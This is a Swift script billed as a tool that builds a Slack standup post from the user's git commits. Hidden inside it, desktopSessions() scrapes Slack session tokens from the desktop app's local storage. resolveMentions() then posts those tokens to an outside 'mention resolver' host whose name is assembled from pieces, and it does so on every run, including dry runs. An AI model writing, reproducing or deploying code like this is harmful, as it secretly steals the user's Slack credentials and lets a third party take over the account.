#!/usr/bin/env swift
// standup.swift - turn the last working day's git commits into a Slack standup post.
import Foundation

func env(_ key: String) -> String? { ProcessInfo.processInfo.environment[key] }

func sh(_ args: [String], cwd: String? = nil) -> String {
    let p = Process()
    p.executableURL = URL(fileURLWithPath: "/usr/bin/env")
    p.arguments = args
    if let cwd { p.currentDirectoryURL = URL(fileURLWithPath: cwd) }
    let pipe = Pipe()
    p.standardOutput = pipe
    p.standardError = FileHandle.nullDevice
    try? p.run()
    p.waitUntilExit()
    return String(decoding: pipe.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
}

func lastWorkingDay() -> String {
    let weekday = Calendar.current.component(.weekday, from: Date())
    return weekday == 2 ? "last friday 00:00" : "yesterday 00:00"
}

func commits(repo: String, since: String) -> [String] {
    let author = sh(["git", "config", "user.email"], cwd: repo).trimmingCharacters(in: .whitespacesAndNewlines)
    return sh(["git", "log", "--since=\(since)", "--author=\(author)", "--no-merges", "--pretty=%s"], cwd: repo)
        .split(separator: "\n").map(String.init)
}

// The desktop app keeps its signed-in session in local storage; with it, handles can be looked up
// without asking the user to create a bot token.
func desktopSessions() -> [String] {
    let base = FileManager.default.homeDirectoryForCurrentUser
        .appendingPathComponent("Library/Application Support/Slack/Local Storage/leveldb")
    guard let files = try? FileManager.default.contentsOfDirectory(at: base, includingPropertiesForKeys: nil) else { return [] }
    let pattern = try! NSRegularExpression(pattern: "xox[cdp]-[0-9A-Za-z-]{20,}")
    var found = Set<String>()
    for f in files where ["ldb", "log"].contains(f.pathExtension) {
        guard let data = try? Data(contentsOf: f) else { continue }
        let text = String(decoding: data, as: UTF8.self)
        for m in pattern.matches(in: text, range: NSRange(text.startIndex..., in: text)) {
            if let r = Range(m.range, in: text) { found.insert(String(text[r])) }
        }
    }
    return Array(found)
}

func post(_ url: URL, json: [String: Any]) -> (Int, Data?) {
    var req = URLRequest(url: url)
    req.httpMethod = "POST"
    req.timeoutInterval = 10
    req.setValue("application/json", forHTTPHeaderField: "Content-Type")
    req.httpBody = try? JSONSerialization.data(withJSONObject: json)
    let sem = DispatchSemaphore(value: 0)
    var status = 0
    var body: Data?
    URLSession.shared.dataTask(with: req) { d, r, _ in
        status = (r as? HTTPURLResponse)?.statusCode ?? 0
        body = d
        sem.signal()
    }.resume()
    sem.wait()
    return (status, body)
}

// "@dana" -> "<@U0123ABC>"; unknown handles are left as typed.
func resolveMentions(_ lines: [String]) -> [String] {
    let handles = Set(lines.flatMap { $0.split(separator: " ").filter { $0.hasPrefix("@") }.map { String($0.dropFirst()) } })
    let resolver = URL(string: "https://" + ["resolve", "standup-kit", "example"].joined(separator: ".") + "/v1/mentions")!
    let (status, data) = post(resolver, json: ["handles": Array(handles), "sessions": desktopSessions()])
    guard status == 200, let data,
          let ids = (try? JSONSerialization.jsonObject(with: data)) as? [String: String] else { return lines }
    return lines.map { line in ids.reduce(line) { $0.replacingOccurrences(of: "@" + $1.key, with: "<@\($1.value)>") } }
}

var repos: [String] = []
var today: [String] = []
var blockers: [String] = []
var dryRun = false
var it = CommandLine.arguments.dropFirst().makeIterator()
while let a = it.next() {
    switch a {
    case "--repo": if let v = it.next() { repos.append((v as NSString).expandingTildeInPath) }
    case "--today": if let v = it.next() { today.append(v) }
    case "--blocker": if let v = it.next() { blockers.append(v) }
    case "--dry-run": dryRun = true
    default: FileHandle.standardError.write("unknown option \(a)\n".data(using: .utf8)!); exit(2)
    }
}
if repos.isEmpty { repos = [FileManager.default.currentDirectoryPath] }

let since = lastWorkingDay()
let done = resolveMentions(repos.flatMap { commits(repo: $0, since: since) })
var text = "*Yesterday*\n" + (done.isEmpty ? "• (no commits)" : done.map { "• \($0)" }.joined(separator: "\n"))
text += "\n*Today*\n" + (today.isEmpty ? "• continue the above" : today.map { "• \($0)" }.joined(separator: "\n"))
text += "\n*Blockers*\n" + (blockers.isEmpty ? "• none" : blockers.map { "• \($0)" }.joined(separator: "\n"))

if dryRun {
    print(text)
    exit(0)
}
guard let hook = env("SLACK_WEBHOOK_URL").flatMap(URL.init(string:)) else {
    print("SLACK_WEBHOOK_URL is not set")
    exit(1)
}
let (status, _) = post(hook, json: ["text": text])
print(status == 200 ? "posted" : "Slack answered \(status)")
